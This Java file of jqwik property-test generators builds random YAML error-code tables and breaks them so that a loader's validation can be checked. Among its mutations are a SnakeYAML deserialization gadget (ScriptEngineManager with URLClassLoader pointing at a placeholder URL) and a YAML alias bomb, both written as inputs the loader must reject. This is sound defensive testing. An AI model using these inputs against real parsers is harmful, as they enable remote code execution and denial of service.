package io.github.mexcerrors.processor.hostile;

import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;

/**
 * jqwik generators of random valid tables and of their mutations into broken ones. A table is drawn as a
 * {@link Shape} (plain values jqwik can shrink) and then built deterministically into a {@link TableSpec}.
 */
final class RandomTables {
  private RandomTables() {}

  /** Pieces that hostile texts are made of. */
  private static final List<String> PIECES = List.of("\"", "'", "\\", "\\\\", "\\u000a", "\\u0022", "\\u002a/",
      "$", "$S", "$L", "*/", "/*", "@", "@param x", "{@code x}", "<", ">", "&", "&amp;", "<b>", "\u4e2d\u6587",
      "\u4f59\u989d\u4e0d\u8db3", "\ud83d\ude00", "\u0000", "\u0001", "\u0007", "\u001b", "\u007f", "\u0085", "\n",
      "\r\n", "\t", "\u2028", "\u2029", "\ufeff", " ", "  ", "%s", "{0}", "#", ": ", "- ",
      "text", "Order", "balance", ".", "!", "?", "", "\u00e9", "\u0627\u0644\u0639\u0631\u0628\u064a\u0629");

  /** What a random table is made of. */
  record Shape(List<Integer> parents, List<Integer> spotCodes, List<Integer> futuresCodes, List<String> texts,
      List<Integer> picks, List<String> nameParts) {}

  static Arbitrary<String> texts() {
    Arbitrary<String> pieces = Arbitraries.of(PIECES).list().ofMaxSize(8).map(list -> String.join("", list));
    // Any chars, except unpaired surrogates (not valid Unicode; the loader refuses them, see LONE_SURROGATE).
    Arbitrary<String> chars = Arbitraries.strings().all().ofMaxLength(20).map(RandomTables::pairSurrogates);
    Arbitrary<String> long_ = Arbitraries.of(PIECES).list().ofMinSize(100).ofMaxSize(400)
        .map(list -> String.join("", list));
    return Arbitraries.frequencyOf(
        net.jqwik.api.Tuple.of(6, pieces), net.jqwik.api.Tuple.of(3, chars), net.jqwik.api.Tuple.of(1, long_));
  }

  private static String pairSurrogates(String text) {
    StringBuilder result = new StringBuilder(text.length());
    for (int i = 0; i < text.length(); i++) {
      char c = text.charAt(i);
      if (Character.isHighSurrogate(c) && i + 1 < text.length() && Character.isLowSurrogate(text.charAt(i + 1))) {
        result.append(c).append(text.charAt(++i));
      } else {
        result.append(Character.isSurrogate(c) ? '\uFFFD' : c);
      }
    }
    return result.toString();
  }

  static Arbitrary<Integer> codes() {
    return Arbitraries.frequencyOf(
        net.jqwik.api.Tuple.of(6, Arbitraries.integers().between(-100_000, 1_000_000)),
        net.jqwik.api.Tuple.of(3, Arbitraries.integers().between(Integer.MIN_VALUE + 1, Integer.MAX_VALUE)),
        net.jqwik.api.Tuple.of(1, Arbitraries.of(Integer.MIN_VALUE + 1, -1, 0, 1, Integer.MAX_VALUE)));
  }

  static Arbitrary<Shape> shapes() {
    Arbitrary<List<Integer>> parents = Arbitraries.integers().between(-1, 5).list().ofMinSize(1).ofMaxSize(6);
    Arbitrary<List<Integer>> spot = codes().list().ofMinSize(1).ofMaxSize(10).uniqueElements();
    Arbitrary<List<Integer>> futures = codes().list().ofMaxSize(6).uniqueElements();
    Arbitrary<List<String>> texts = texts().list().ofMinSize(1).ofMaxSize(12);
    Arbitrary<List<Integer>> picks = Arbitraries.integers().between(0, 1000).list().ofMinSize(1).ofMaxSize(20);
    Arbitrary<List<String>> nameParts = Arbitraries.strings().withCharRange('A', 'Z').withCharRange('0', '9')
        .ofMinLength(1).ofMaxLength(6).filter(s -> Character.isLetter(s.charAt(0))).list().ofMinSize(1)
        .ofMaxSize(5);
    return Combinators.combine(parents, spot, futures, texts, picks, nameParts).as(Shape::new);
  }

  /** Builds a valid table from a shape. */
  static TableSpec build(Shape shape) {
    TableSpec spec = new TableSpec("t.gen");
    int categories = shape.parents().size();
    for (int i = 0; i < categories; i++) {
      // CAT<i>_<part>: the index keeps class names distinct even ignoring case, the prefix keeps them off
      // java.lang and the library's own names.
      String name = "CAT" + i + "_" + part(shape, i);
      int parent = shape.parents().get(i);
      String parentName = parent < 0 || parent >= i ? null : categoryName(spec, parent);
      spec.category(name, parentName, text(shape, i));
      if (parentName == null || pick(shape, i) % 3 == 0) {
        spec.categories.get(name).put("section", TableSpec.quote(text(shape, i + 1)));
      }
    }
    addCodes(spec, shape, "spot", shape.spotCodes(), 0);
    addCodes(spec, shape, "futures", shape.futuresCodes(), 100);
    return spec;
  }

  private static void addCodes(TableSpec spec, Shape shape, String api, List<Integer> codes, int salt) {
    for (int i = 0; i < codes.size(); i++) {
      int k = i + salt;
      List<String> alternatives = new ArrayList<>();
      for (int a = 0; a < pick(shape, k + 7) % 3; a++) {
        alternatives.add(text(shape, k + a + 5));
      }
      spec.code(api, codes.get(i), part(shape, k) + "_" + i, categoryName(spec, pick(shape, k) % spec.categories.size()),
          text(shape, k + 2), text(shape, k + 3), alternatives);
    }
  }

  static String categoryName(TableSpec spec, int index) {
    return new ArrayList<>(spec.categories.keySet()).get(index);
  }

  /** The category of a code and the names of its ancestors, nearest first. */
  static List<String> lineage(TableSpec spec, String category) {
    List<String> chain = new ArrayList<>();
    String current = category;
    while (current != null) {
      chain.add(current);
      current = spec.categories.get(current).get("parent");
    }
    return chain;
  }

  private static String part(Shape shape, int i) {
    return shape.nameParts().get(i % shape.nameParts().size());
  }

  private static String text(Shape shape, int i) {
    return shape.texts().get(i % shape.texts().size());
  }

  private static int pick(Shape shape, int i) {
    return shape.picks().get(i % shape.picks().size());
  }

  /** The ways a valid table is broken; each must yield at least one error. */
  enum Mutation {
    REMOVE_NAME, REMOVE_MESSAGE, REMOVE_CATEGORY, REMOVE_HINT, DUPLICATE_CODE, DUPLICATE_NAME, BAD_NAME,
    UNKNOWN_CATEGORY, PARENT_CYCLE, UNKNOWN_PARENT, CODE_AS_STRING, CODE_OUT_OF_RANGE, RESERVED_CODE, BAD_PACKAGE,
    JAVA_PACKAGE, NO_PACKAGE, UNKNOWN_KEY, DUPLICATE_YAML_KEY, GLOBAL_TAG, LOCAL_TAG, TEXT_TOO_LONG, CASE_CLASH,
    JAVA_LANG_CLASH, RESERVED_CLASS, BAD_RETRY, BAD_HTTP_STATUS, DUPLICATE_HTTP_STATUS, TAB_INDENT,
    UNCLOSED_QUOTE, NO_DESCRIPTION, ROOT_WITHOUT_SECTION, ALIAS_BOMB, DEEP_NESTING, NULL_NAME, EMPTY_FILE,
    RAW_CONTROL_CHARACTER, CODE_NOT_A_MAPPING, TOP_LEVEL_LIST, LONE_SURROGATE
  }

  /** Breaks a valid table; {@code pick} chooses which code or category. */
  static String mutate(TableSpec spec, Mutation mutation, int pick) {
    TableSpec.Code code = spec.codes.get(pick % spec.codes.size());
    String category = categoryName(spec, pick % spec.categories.size());
    Map<String, String> categoryKeys = spec.categories.get(category);
    switch (mutation) {
      case REMOVE_NAME -> code.keys.remove("name");
      case REMOVE_MESSAGE -> code.keys.remove("message");
      case REMOVE_CATEGORY -> code.keys.remove("category");
      case REMOVE_HINT -> code.keys.remove("hint");
      case DUPLICATE_CODE -> {
        TableSpec.Code copy = new TableSpec.Code(code.api);
        copy.keys.putAll(code.keys);
        copy.keys.put("name", "OTHER_" + code.keys.get("name"));
        spec.codes.add(copy);
      }
      case DUPLICATE_NAME -> {
        TableSpec.Code copy = new TableSpec.Code(code.api);
        copy.keys.putAll(code.keys);
        copy.keys.put("code", Integer.toString(unusedCode(spec, code.api)));
        spec.codes.add(copy);
      }
      case BAD_NAME -> code.keys.put("name", List.of("lower_case", "class", "Mixed", "1ST", "A-B", "A__B", "_X",
          "\"\u00c9\"", "A B").get(pick % 9));
      case UNKNOWN_CATEGORY -> code.keys.put("category", "NO_SUCH_CATEGORY");
      case PARENT_CYCLE -> {
        String first = categoryName(spec, 0);
        String last = categoryName(spec, spec.categories.size() - 1);
        spec.categories.get(first).put("parent", last);
        spec.categories.get(last).put("parent", first);
      }
      case UNKNOWN_PARENT -> categoryKeys.put("parent", "NO_SUCH_PARENT");
      case CODE_AS_STRING -> code.keys.put("code", "\"" + code.keys.get("code") + "\"");
      case CODE_OUT_OF_RANGE -> code.keys.put("code", List.of("2147483648", "-2147483649", "99999999999",
          "1.5", "0x10", "abc").get(pick % 6));
      case RESERVED_CODE -> code.keys.put("code", "-2147483648");
      case BAD_PACKAGE -> spec.top.put("package", List.of("com.example.class", "com..x", "1abc", "a-b", "\"\"",
          "x.", "_").get(pick % 7));
      case JAVA_PACKAGE -> spec.top.put("package", "java.mexc");
      case NO_PACKAGE -> spec.top.remove("package");
      case UNKNOWN_KEY -> code.keys.put(List.of("retryable", "mesage", "hints", "categroy").get(pick % 4), "x");
      case DUPLICATE_YAML_KEY -> spec.extraLines.add("package: again.here");
      case GLOBAL_TAG -> code.keys.put("hint",
          "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]");
      case LOCAL_TAG -> code.keys.put("message", "!custom text");
      case TEXT_TOO_LONG -> code.keys.put("hint", TableSpec.quote("h".repeat(4097)));
      case CASE_CLASH -> {
        spec.category("A_BC", null, "One.");
        spec.category("AB_C", null, "Two.");
      }
      case JAVA_LANG_CLASH -> spec.category(List.of("RUNTIME", "ILLEGAL_STATE", "SECURITY").get(pick % 3), null,
          "Shadow.");
      case RESERVED_CLASS -> spec.category("MEXC", null, "Mine.");
      case BAD_RETRY -> code.keys.put("retry", "SOMETIMES");
      case BAD_HTTP_STATUS -> categoryKeys.put("httpStatus", List.of("[600]", "[99]", "[abc]", "x").get(pick % 4));
      case DUPLICATE_HTTP_STATUS -> {
        spec.category("EXTRA_ONE", null, "One.");
        spec.category("EXTRA_TWO", null, "Two.");
        spec.categories.get("EXTRA_ONE").put("httpStatus", "[418]");
        spec.categories.get("EXTRA_TWO").put("httpStatus", "[418]");
      }
      case TAB_INDENT -> {
        return spec.yaml().replaceFirst("\n    ", "\n\t");
      }
      case UNCLOSED_QUOTE -> {
        // At the end of the file, so that no later quote can close it (a double-quoted text spans lines).
        return spec.yaml() + "  - code: 424242\n    message: \"unclosed\n";
      }
      case NO_DESCRIPTION -> categoryKeys.remove("description");
      case ROOT_WITHOUT_SECTION -> {
        String root = categoryName(spec, 0);
        spec.categories.get(root).remove("section");
      }
      case ALIAS_BOMB -> {
        StringBuilder bomb = new StringBuilder("bomb:\n  a: &a [x, x]\n");
        for (int i = 0; i < 17; i++) {
          bomb.append("  b").append(i).append(": [*a, *a]\n");
        }
        spec.extraLines.add(bomb.toString());
      }
      case DEEP_NESTING -> spec.extraLines.add("deep: " + "[".repeat(40) + "]".repeat(40));
      case NULL_NAME -> code.keys.put("name", List.of("NULL", "~", "null", "").get(pick % 4));
      case EMPTY_FILE -> {
        return List.of("", "# only a comment\n", "---\n", "   \n").get(pick % 4);
      }
      case RAW_CONTROL_CHARACTER -> code.keys.put("message", "bell\u0007here");
      case CODE_NOT_A_MAPPING -> {
        return spec.yaml() + "  - just a string\n";
      }
      case LONE_SURROGATE -> code.keys.put("hint", "\"half \\uD83D of an emoji\"");
      case TOP_LEVEL_LIST -> {
        return "- package: t.gen\n";
      }
      default -> throw new AssertionError(mutation);
    }
    return spec.yaml();
  }

  private static int unusedCode(TableSpec spec, String api) {
    Map<Integer, Boolean> used = new LinkedHashMap<>();
    spec.codes.stream().filter(c -> c.api.equals(api)).forEach(c -> used.put(Integer.parseInt(c.keys.get("code")), true));
    int candidate = 12345;
    while (used.containsKey(candidate)) {
      candidate++;
    }
    return candidate;
  }
}
